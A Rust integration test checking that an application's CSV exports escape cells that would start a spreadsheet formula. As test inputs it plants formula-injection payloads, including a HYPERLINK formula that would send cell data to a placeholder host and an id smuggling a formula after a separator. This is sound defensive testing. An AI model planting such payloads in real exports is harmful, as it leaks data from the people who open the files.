//! The CSV files Conjure hands out, read as a spreadsheet reads them: no cell may start a formula.

mod common;

use common::admin;
use common::{harness, import_and_wait};

const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Every cell of `text` as a spreadsheet splits it.
fn cells(text: &str) -> Vec<String> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

fn assert_no_formula(what: &str, text: &str) {
    for cell in cells(text) {
        assert!(
            !cell.starts_with(FORMULA_START),
            "{what}: the cell {cell:?} would run as a formula\n{text}"
        );
    }
}

#[tokio::test]
async fn exports_carry_no_formulas() {
    let h = harness().await;
    let hyperlink = r#"=HYPERLINK("http://x/?"&B2)"#;
    // A token's name is free text and lands in the audit log.
    let r = admin(&h.app)
        .post(
            "/api/tokens",
            &serde_json::json!({"name": hyperlink, "role": "viewer"}).to_string(),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    // An id with a separator and a formula in it.
    let formula_id = format!("{};=1+1", h.up.id("2041"));
    h.up.track(&formula_id);
    let r = admin(&h.app)
        .put(
            &format!("/api/objects/aor/{formula_id}"),
            r#"{"fields":[{"attribute":"max_contacts","value":"1"}]}"#,
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    let audit = admin(&h.app).get("/api/audit.csv").await.text;
    assert_no_formula("audit", &audit);
    assert!(cells(&audit).contains(&format!("'{hyperlink}")), "{audit}");
    assert!(cells(&audit).contains(&formula_id), "{audit}");

    // Phone users named like formulas, in the export and in an import's results.
    let [a, b, c] = ["4201", "4202", "4203"].map(|e| h.up.id(e));
    let file = format!("extension,name\n{a},=1+2\n{b},@SUM(A1)\n{c},-Lena\n");
    let id = import_and_wait(&h.app, &file).await;
    let results = admin(&h.app)
        .get(&format!("/api/imports/{id}/results.csv"))
        .await
        .text;
    assert_no_formula("import results", &results);
    let export = admin(&h.app).get("/api/phone-users.csv").await.text;
    assert_no_formula("phone users", &export);
    let names = cells(&export);
    for name in ["'=1+2", "'@SUM(A1)", "'-Lena"] {
        assert!(names.contains(&name.to_string()), "{name} in {export}");
    }
}
